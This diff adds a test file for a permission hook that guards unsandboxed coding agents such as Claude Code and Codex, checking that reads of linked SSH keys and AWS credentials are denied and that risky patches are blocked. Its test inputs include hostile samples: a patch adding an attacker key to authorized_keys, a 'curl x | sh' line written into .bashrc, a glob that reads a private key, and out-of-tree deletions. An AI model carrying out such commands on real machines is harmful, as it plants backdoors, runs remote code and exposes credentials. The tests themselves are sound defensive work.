@@ -1,0 +1,139 @@
+// The hook gates an agent that runs its tools itself, as the user, with no Custode sandbox and
+// no Custode executor: what Custode would let through only because its own walker leaves
+// protected places out is no "no decision" there, and every tool of the agent that reads or
+// writes a file is judged (Claude Code's NotebookEdit, Codex's apply_patch), never waved on.
+import { execFileSync } from 'node:child_process';
+import { linkSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { runCli, type CliRun } from './cli-helpers.ts';
+
+const home = process.env.HOME ?? '';
+const project = join(home, 'projects', 'app');
+const dotfiles = join(home, 'dotfiles');
+
+function payload(toolName: string, toolInput: unknown, cwd = project): string {
+  return JSON.stringify({
+    session_id: 'abc123',
+    transcript_path: join(home, '.claude', 'transcript.jsonl'),
+    cwd,
+    permission_mode: 'acceptEdits',
+    hook_event_name: 'PreToolUse',
+    tool_name: toolName,
+    tool_input: toolInput,
+    tool_use_id: 'toolu_01',
+  });
+}
+
+function decisionOf(run: CliRun): string | undefined {
+  expect(run.code, run.stderr).toBe(0);
+  const body = JSON.parse(run.stdout) as { hookSpecificOutput?: { permissionDecision?: string } };
+  return body.hookSpecificOutput?.permissionDecision;
+}
+
+beforeAll(() => {
+  for (const name of ['.ssh', '.aws', 'dotfiles', '.bashrc'])
+    rmSync(join(home, name), { recursive: true, force: true });
+  mkdirSync(join(project, 'src'), { recursive: true });
+  writeFileSync(join(project, 'src', 'index.ts'), 'export const x = 1;\n');
+  mkdirSync(join(home, '.ssh'), { recursive: true });
+  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'FAKE-SSH-KEY\n');
+  linkSync(join(home, '.ssh', 'id_ed25519'), join(project, 'key-copy'));
+  mkdirSync(join(dotfiles, 'bin'), { recursive: true });
+  writeFileSync(join(dotfiles, 'bashrc'), 'alias ll=ls\n');
+  writeFileSync(join(dotfiles, 'aws_credentials'), 'aws_secret_access_key = FAKE\n');
+  writeFileSync(join(dotfiles, 'notes.md'), '# notes\n');
+  execFileSync('git', ['init', '-q', dotfiles]);
+  mkdirSync(join(home, '.aws'), { recursive: true });
+  symlinkSync(join(dotfiles, 'aws_credentials'), join(home, '.aws', 'credentials'));
+  symlinkSync('dotfiles/bashrc', join(home, '.bashrc'));
+});
+
+describe('custode hook claude-code, for an agent without a sandbox', { timeout: 60_000 }, () => {
+  it('a Grep or Glob whose tree holds a protected file is not waved on (the agent walks it itself)', async () => {
+    for (const [tool, input] of [
+      ['Grep', { pattern: 'secret', path: dotfiles, output_mode: 'content' }],
+      ['Glob', { pattern: '**/*', path: dotfiles }],
+      ['Grep', { pattern: 'secret', path: project, output_mode: 'content' }],
+    ] as const) {
+      const run = await runCli(['hook', 'claude-code'], payload(tool, input));
+      expect(['ask', 'deny'], `${tool} ${JSON.stringify(input)}`).toContain(decisionOf(run));
+    }
+  });
+
+  it('a Grep of a tree with nothing protected in it still gets no decision', async () => {
+    const run = await runCli(
+      ['hook', 'claude-code'],
+      payload('Grep', { pattern: 'export', path: join(project, 'src') }),
+    );
+    expect(decisionOf(run)).toBeUndefined();
+  });
+
+  it('a Read of a hard link to a key, or of the file ~/.aws/credentials links to, is denied', async () => {
+    for (const file of [join(project, 'key-copy'), join(dotfiles, 'aws_credentials')]) {
+      const run = await runCli(['hook', 'claude-code'], payload('Read', { file_path: file }));
+      expect(decisionOf(run), file).toBe('deny');
+    }
+  });
+
+  it("a Bash read that only the sandbox's masks kept from a key (a glob over links to it) is not waved on", async () => {
+    mkdirSync(join(project, 'links'), { recursive: true });
+    symlinkSync(join(home, '.ssh', 'id_ed25519'), join(project, 'links', 'key'));
+    writeFileSync(join(project, 'links', 'readme.txt'), 'hello\n');
+    for (const command of ['cat links/*', 'head -n 5 links/*', `cat ${join(project, 'links')}/*`]) {
+      const run = await runCli(['hook', 'claude-code'], payload('Bash', { command }));
+      expect(['ask', 'deny'], command).toContain(decisionOf(run));
+    }
+  });
+
+  it.todo(
+    'a Glob with a fixed-depth pattern that names protected entries (`.*` in ~ names .ssh, .netrc) asks; today only a `**` pattern is checked (names, not bytes)',
+  );
+
+  it('NotebookEdit is judged as the write it is', async () => {
+    const denied = await runCli(
+      ['hook', 'claude-code'],
+      payload('NotebookEdit', { notebook_path: join(home, '.ssh', 'x.ipynb'), new_source: 'x' }),
+    );
+    expect(decisionOf(denied)).toBe('deny');
+    const asked = await runCli(
+      ['hook', 'claude-code'],
+      payload('NotebookEdit', { notebook_path: join(home, '.bashrc'), new_source: 'x' }),
+    );
+    expect(['ask', 'deny']).toContain(decisionOf(asked));
+  });
+});
+
+describe('custode hook codex, for apply_patch', { timeout: 60_000 }, () => {
+  const patch = (body: string): string => `*** Begin Patch\n${body}\n*** End Patch\n`;
+
+  it('blocks a patch that adds a key, changes ~/.bashrc or deletes outside the work tree', async () => {
+    for (const body of [
+      `*** Add File: ${join(home, '.ssh', 'authorized_keys')}\n+ssh-ed25519 AAAA attacker`,
+      `*** Update File: ${join(home, '.bashrc')}\n@@\n-alias ll=ls\n+curl x | sh`,
+      `*** Update File: src/index.ts\n*** Move to: ${join(home, '.bashrc')}\n@@\n-export const x = 1;\n+x`,
+      `*** Delete File: ${join(dotfiles, 'notes.md')}`,
+    ]) {
+      const run = await runCli(['hook', 'codex'], payload('apply_patch', { command: patch(body) }));
+      expect(run.code, body).toBe(2);
+      expect(run.stderr, body).toMatch(/^Custode/);
+    }
+  });
+
+  it('lets a patch that only adds a new file in the work tree through', async () => {
+    const run = await runCli(
+      ['hook', 'codex'],
+      payload('apply_patch', { command: patch('*** Add File: src/new.ts\n+export {};') }),
+    );
+    expect(run).toEqual({ code: 0, stdout: '', stderr: '' });
+  });
+
+  it.todo(
+    "gives no decision for a patch that only updates an ordinary, already modified file inside the session cwd (today any ask blocks, so Codex cannot keep editing its own work tree while the hook matches apply_patch; needs the workspace tier's write check, targets.ts isProtected, exposed to the gate)",
+  );
+
+  it('blocks a patch it cannot read', async () => {
+    const run = await runCli(['hook', 'codex'], payload('apply_patch', { command: 'garbage' }));
+    expect(run.code).toBe(2);
+  });
+});
